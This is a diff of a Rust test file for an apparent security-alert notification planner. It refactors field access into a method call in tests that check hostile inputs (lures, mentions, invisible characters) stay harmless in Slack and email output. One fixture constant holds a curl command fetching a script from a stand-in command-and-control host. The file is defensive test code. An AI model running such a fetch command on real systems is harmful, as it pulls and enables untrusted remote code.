@@ -37,7 +37,7 @@ fn slack_links_and_mentions_nothing_by_itself() {
     let mut checked = 0;
     for file in event_files() {
         for p in plans(&read(&file)) {
-            let payload = serde_json::to_value(&p.notification.slack).unwrap();
+            let payload = serde_json::to_value(&p.notification().slack).unwrap();
             let mut texts = Vec::new();
             mrkdwn_objects(&payload, &mut texts);
             assert!(!texts.is_empty(), "{file}: no mrkdwn text");
@@ -59,7 +59,7 @@ fn bare_mentions_urls_and_channel_names_stay_text() {
     event["detail"]["service"]["runtimeDetails"]["process"]["name"] = json!(lure);
     event["detail"]["title"] = json!(lure);
     let p = one(event.to_string().as_bytes());
-    let payload = serde_json::to_value(&p.notification.slack).unwrap();
+    let payload = serde_json::to_value(&p.notification().slack).unwrap();
     let mut texts = Vec::new();
     mrkdwn_objects(&payload, &mut texts);
     let carrying: Vec<_> = texts
@@ -107,7 +107,7 @@ const INVISIBLE: &[char] = &[
 #[test]
 fn invisible_characters_cannot_hide_text_in_any_channel() {
     let p = one(&read("hostile-invisible-chars.json"));
-    let n = &p.notification;
+    let n = &p.notification();
     let mut slack = Vec::new();
     slack_strings(&serde_json::to_value(&n.slack).unwrap(), &mut slack);
     let channels = [n.subject.clone(), n.text.clone(), n.html.clone()]
@@ -141,7 +141,7 @@ const TITLE: &str = "Command and control server domain name queried";
 const COMMAND_HEAD: &str = "curl -s http://update.cdn-telemetry.example/x.sh";
 
 fn assert_indicators_shown(p: &ResponsePlan, what: &str) {
-    let n = &p.notification;
+    let n = &p.notification();
     let payload = serde_json::to_value(&n.slack).expect("serialises");
     let mut slack = Vec::new();
     slack_strings(&payload, &mut slack);
@@ -245,7 +245,7 @@ fn each_degraded_field_still_gives_a_plan_and_a_notification() {
         assert_eq!(p.decision, base.decision, "{what}");
         assert_eq!(p.surface, base.surface, "{what}");
         assert_eq!(p.actions.len(), base.actions.len(), "{what}");
-        assert!(!p.notification.text.is_empty() && !p.notification.slack.blocks.is_empty());
+        assert!(!p.notification().text.is_empty() && !p.notification().slack.blocks.is_empty());
     }
 }
 
@@ -256,9 +256,9 @@ fn the_degraded_sample_is_contained_and_shows_what_was_lost() {
     assert_eq!(p.surface.as_str(), "ecs");
     assert!(!p.actions.is_empty());
     assert!(
-        p.notification.text.contains("mount\u{FFFD}"),
+        p.notification().text.contains("mount\u{FFFD}"),
         "{}",
-        p.notification.text
+        p.notification().text
     );
     let flags: Vec<&str> = p
         .finding
